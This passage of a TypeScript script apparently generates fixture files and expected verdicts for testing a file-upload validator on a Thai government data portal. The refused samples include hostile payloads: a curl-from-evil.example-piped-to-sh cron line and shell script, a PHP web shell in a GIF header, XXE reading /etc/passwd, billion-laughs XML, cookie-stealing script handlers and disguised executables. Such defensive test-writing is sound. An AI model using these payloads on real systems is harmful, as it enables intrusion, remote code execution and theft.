  refused('zip-traversal.zip', 'เอกสาร.zip', 'archive', 'An entry named ../../etc/passwd', rawZip([{ name: '../../etc/passwd', stored: text('root:x:0:0::/root:/bin/sh\n') }]))
  refused('zip-absolute.zip', 'เอกสาร.zip', 'archive', 'An entry with an absolute name /etc/cron.d/update', rawZip([{ name: '/etc/cron.d/update', stored: text('* * * * * root curl evil.example|sh\n') }]))
  refused('zip-absolute-windows.zip', 'เอกสาร.zip', 'archive', 'An entry named C:\\Users\\Public\\start.txt', rawZip([{ name: 'C:\\Users\\Public\\start.txt', stored: text('x') }]))
  refused('zip-control-name.zip', 'เอกสาร.zip', 'archive', 'An entry name with a bell and a NUL in it', rawZip([{ name: concat(text('ประกาศ'), [0x07, 0x00], text('.txt')), stored: text('x') }]))
  refused(
    'zip-encrypted.zip',
    'เอกสาร.zip',
    'archive',
    'An entry encrypted with ZipCrypto (flag bit 0): its content cannot be inspected',
    rawZip([{ name: 'ลับ.pdf', stored: concat(Uint8Array.from({ length: 12 }, (_, i) => (i * 37 + 11) & 0xff), latin('%PDF-1.7 encrypted bytes')), flags: 1, crc: 0x12345678, uncompressedSize: 24 }]),
  )
  refused('zip-exe.zip', 'เอกสาร.zip', 'dangerous', 'A ZIP holding โปรแกรม/setup.exe (a PE program)', zip({ 'โปรแกรม/setup.exe': windowsProgram() }))
  refused('zip-exe-disguised.zip', 'เอกสาร.zip', 'dangerous', 'A ZIP holding a PE program named รูปกิจกรรม.jpg', zip({ 'รูปกิจกรรม.jpg': windowsProgram() }))
  refused('zip-html.zip', 'เอกสาร.zip', 'dangerous', 'A ZIP holding index.html', zip({ 'index.html': text('<!DOCTYPE html><html><body><script>location="https://evil.example"</script></body></html>') }))
  refused('zip-svg-disguised.zip', 'เอกสาร.zip', 'dangerous', 'A ZIP holding an SVG with a script, named logo.png', zip({ 'logo.png': text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') }))
  refused('zip-rtlo-exe.zip', 'เอกสาร.zip', 'dangerous', 'A ZIP entry named รายงาน\\u202Efdp.exe (shown as รายงานexe.pdf)', zip({ 'รายงาน\u202efdp.exe': windowsProgram() }))
  refused('zip-docm-inside.zip', 'เอกสาร.zip', 'active-content', 'A ZIP holding a DOCX with macros', zip({ 'คำสั่ง.docx': docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }) }))
  refused('zip-pdf-js-inside.zip', 'เอกสาร.zip', 'active-content', 'A ZIP holding a PDF that runs JavaScript', zip({ 'ประกาศ.pdf': simplePdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ') }))
  refused('zip-rar-inside.zip', 'เอกสาร.zip', 'archive', 'A ZIP holding a RAR file, which cannot be inspected', zip({ 'ภาพถ่าย.rar': concat(latin('Rar!\x1a\x07\x01\x00'), [0x33, 0x92, 0xb5, 0xe5, 0x0a, 0x01, 0x05, 0x06, 0x00]) }))
  refused(
    'zip-1001-entries.zip',
    'เอกสาร.zip',
    'archive',
    'A ZIP with 1,001 entries',
    zip(Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`${i}.txt`, text('')])) as Zippable),
  )
  {
    const extra = concat(le16(0x0001), le16(16), le32(5), le32(0), le32(5), le32(0))
    refused('zip-zip64.zip', 'เอกสาร.zip', 'broken', 'An entry with ZIP64 sizes (0xFFFFFFFF and a ZIP64 extra field)', rawZip([{ name: 'a.txt', stored: text('hello'), compressedSize: 0xffffffff, uncompressedSize: 0xffffffff, extra }]))
  }
  {
    const whole = zip({ 'รายงาน.pdf': sound, 'ข้อมูล.csv': text(CSV) })
    refused('zip-truncated.zip', 'เอกสาร.zip', 'broken', 'A ZIP cut short: no central directory', whole.subarray(0, Math.floor(whole.length / 2)))
  }
  const rar5 = concat(latin('Rar!\x1a\x07\x01\x00'), [0x33, 0x92, 0xb5, 0xe5, 0x0a, 0x01, 0x05, 0x06, 0x00, 0x05, 0x01, 0x01, 0x80, 0x80, 0x00])
  refused('rar5.rar', 'ภาพถ่าย.rar', 'unsupported', 'A RAR 5 archive: its inside cannot be inspected, ZIP is asked for', rar5)
  refused('rar-as-zip.zip', 'ภาพถ่าย.zip', 'unsupported', 'A RAR archive renamed .zip', rar5)

  // ---------------------------------------------------------------- disguises
  refused('svg-as-png.png', 'โลโก้.png', 'dangerous', 'An SVG with a script, renamed .png', text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/users/me")</script></svg>'))
  refused('html-as-pdf.pdf', 'ประกาศ.pdf', 'dangerous', 'A web page renamed .pdf', text('<!DOCTYPE html><html lang="th"><head><meta charset="utf-8"></head><body><a href="https://slot.example">สล็อตเว็บตรง</a></body></html>'))
  refused('exe-as-jpg.jpg', 'รูปกิจกรรม.jpg', 'dangerous', 'A Windows PE program renamed .jpg', windowsProgram())
  refused('elf-as-pdf.pdf', 'ประกาศ.pdf', 'dangerous', 'A Linux ELF program renamed .pdf', linuxProgram())
  refused('lnk-as-pdf.pdf', 'ประกาศ.pdf', 'dangerous', 'A Windows shortcut renamed .pdf', windowsShortcut())
  refused('class-as-zip.zip', 'เอกสาร.zip', 'dangerous', 'A Java class file renamed .zip', concat([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x41], zeros(32)))
  refused('script-as-csv.csv', 'ข้อมูล.csv', 'dangerous', 'A shell script renamed .csv', text('#!/bin/sh\ncurl https://evil.example/x | sh\n'))
  refused('php-in-gif-as-jpg.jpg', 'รูป.jpg', 'dangerous', 'A GIF header followed by PHP, renamed .jpg', text('GIF89a<?php system($_GET["c"]); ?>'))

  // ---------------------------------------------------------------- names
  refused('name-rtlo.exe', 'รายงาน\u202efdp.exe', 'extension-not-allowed', 'U+202E makes "รายงาน\u202efdp.exe" read as รายงานexe.pdf: the real extension is .exe', windowsProgram())
  refused('name-nul.bin', 'ประกาศ.pdf\u0000.exe', 'extension-not-allowed', 'A NUL inside the name: without it the name ends in .exe', windowsProgram())
  refused('name-double-extension.bin', 'ประกาศ.pdf.exe', 'extension-not-allowed', 'A double extension ending in .exe', windowsProgram())
  accepted('name-con.pdf', 'CON.pdf', 'A Windows device name: stored with a leading _', sound, { safeName: '_CON.pdf' })
  {
    const long = `${'ประกาศผลการพิจารณาราคากลางงานจ้างก่อสร้างถนนคอนกรีตเสริมเหล็ก'.repeat(6).slice(0, 300)}.pdf`
    const graphemes = [...new Intl.Segmenter('th', { granularity: 'grapheme' }).segment(long.slice(0, -4))].map((s) => s.segment)
    let base = ''
    for (const g of graphemes) {
      if (Buffer.byteLength(base + g + '.pdf') > 150) break
      base += g
    }
    accepted('name-long-thai.pdf', long, 'A 300-character Thai name: cut to 150 UTF-8 bytes between grapheme clusters, .pdf kept', sound, { safeName: `${base}.pdf` })
  }
  accepted('name-path.pdf', '..\\..\\Windows\\ประกาศ ราคากลาง.pdf', 'A name with a path: only the last segment is kept', sound, { safeName: 'ประกาศ ราคากลาง.pdf' })

  // ---------------------------------------------------------------- text, data and maps
  refused('txt-nul.txt', 'บันทึก.txt', 'content-mismatch', 'Thai text with NUL bytes after the first 2 KB', concat(text('บันทึกข้อความ '.repeat(160)), zeros(16), text('ต่อ')))
  refused('txt-utf16.txt', 'บันทึก.txt', 'content-mismatch', 'UTF-16 text (NUL in every other byte): UTF-8 is asked for', concat([0xff, 0xfe], ...[...'บันทึก'].map((c) => le16(c.charCodeAt(0)))))
  accepted('csv-thai-utf8.csv', 'งบประมาณ.csv', 'A Thai CSV in UTF-8 with a byte-order mark', concat([0xef, 0xbb, 0xbf], text(CSV)))
  accepted('csv-tis620.csv', 'งบประมาณ.csv', 'A Thai CSV in TIS-620, as old Excel exports it', tis620(CSV))
  accepted('json-valid.json', 'ข้อมูล.json', 'Valid JSON', text('{"หน่วยงาน":"เทศบาล","งบประมาณ":[1500,250000],"เผยแพร่":true}\n'))
  refused('json-invalid.json', 'ข้อมูล.json', 'broken', 'JSON with a trailing comma and a missing brace', text('{"หน่วยงาน":"เทศบาล","งบประมาณ":[1500,250000,]\n'))
  accepted('xml-valid.xml', 'ข้อมูล.xml', 'Plain XML data', text(`${XML}<รายการ><รายการย่อย รหัส="1">ค่าวัสดุ</รายการย่อย></รายการ>\n`))
  refused(
    'xml-billion-laughs.xml',
    'ข้อมูล.xml',
    'dangerous',
    'A DOCTYPE with nested entities (billion laughs)',
    text(`<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n<lolz>&lol9;</lolz>\n`),
  )
  refused('xml-xxe.xml', 'ข้อมูล.xml', 'dangerous', 'An external entity reading /etc/passwd (XXE)', text('<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY file SYSTEM "file:///etc/passwd">]>\n<data>&file;</data>\n'))
  refused(
    'xml-xhtml-script.xml',
    'ข้อมูล.xml',
    'dangerous',
    'XML with an XHTML-namespaced element and event handler, which a browser runs',
    text(`${XML}<data><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="none" onerror="alert(document.cookie)"/></data>\n`),
  )
  accepted('kml-valid.kml', 'จุดบริการ.kml', 'A KML placemark with an HTML description in CDATA', text(KML))
  refused('kml-script.kml', 'จุดบริการ.kml', 'dangerous', 'A KML description with a script', text(KML.replace('<b>เปิดทำการ</b>', '<script>alert(1)</script>')))
  refused('kml-wrong-root.kml', 'จุดบริการ.kml', 'content-mismatch', 'XML whose root is <gpx>, named .kml', text(`${XML}<gpx version="1.1" creator="x"><wpt lat="13.75" lon="100.5"/></gpx>\n`))
  accepted('kmz-valid.kmz', 'จุดบริการ.kmz', 'A KMZ: doc.kml and a picture', zip({ 'doc.kml': text(KML), 'files/สำนักงาน.png': await sharp({ create: { width: 4, height: 4, channels: 3, background: '#1565c0' } }).png().toBuffer() }))
  refused('kmz-doctype.kmz', 'จุดบริการ.kmz', 'dangerous', 'A KMZ whose doc.kml declares an external entity', zip({ 'doc.kml': text(KML.replace('<kml', '<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<kml')) }))
  accepted('shapefile.zip', 'แปลงที่ดิน.zip', 'A shapefile: .shp, .shx, .dbf and .prj of one layer, zipped', zip(shapefile()))

  // ---------------------------------------------------------------- images
  const noise = Uint8Array.from({ length: 96 * 96 * 3 }, (_, i) => (i * 7919 + ((i * i) >> 3)) & 0xff)
  const raw = { raw: { width: 96, height: 96, channels: 3 as const } }
  const png = new Uint8Array(await sharp(noise, raw).png().toBuffer())
  const jpeg = new Uint8Array(await sharp(noise, raw).jpeg({ quality: 80 }).toBuffer())
  const tiff = new Uint8Array(await sharp(noise.subarray(0, 16 * 16 * 3), { raw: { width: 16, height: 16, channels: 3 } }).tiff({ compression: 'lzw' }).toBuffer())
  accepted('png-valid.png', 'แผนที่.png', 'A sound PNG', png)
  accepted('jpeg-valid.jpg', 'กิจกรรม.jpg', 'A sound JPEG', jpeg)
  accepted('tiff-valid.tif', 'แผนที่สแกน.tif', 'A sound TIFF (LZW)', tiff)
  refused('png-truncated.png', 'แผนที่.png', 'broken', 'A PNG cut in half: the signature is right, the picture is not', png.subarray(0, Math.floor(png.length / 2)), { needs: 'decode' })
  refused('jpeg-truncated.jpg', 'กิจกรรม.jpg', 'broken', 'A JPEG cut in half', jpeg.subarray(0, Math.floor(jpeg.length / 2)), { needs: 'decode' })

  fs.rmSync(OUT, { recursive: true, force: true })
  fs.mkdirSync(OUT, { recursive: true })
  for (const [file, bytes] of written) fs.writeFileSync(path.join(OUT, file), bytes)
  fs.writeFileSync(path.join(HERE, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`)
  const total = [...written.values()].reduce((n, b) => n + b.length, 0)
  console.log(`${manifest.length} files, ${(total / 1024).toFixed(0)} KB, in ${path.relative(process.cwd(), OUT)}`)
}

await build()
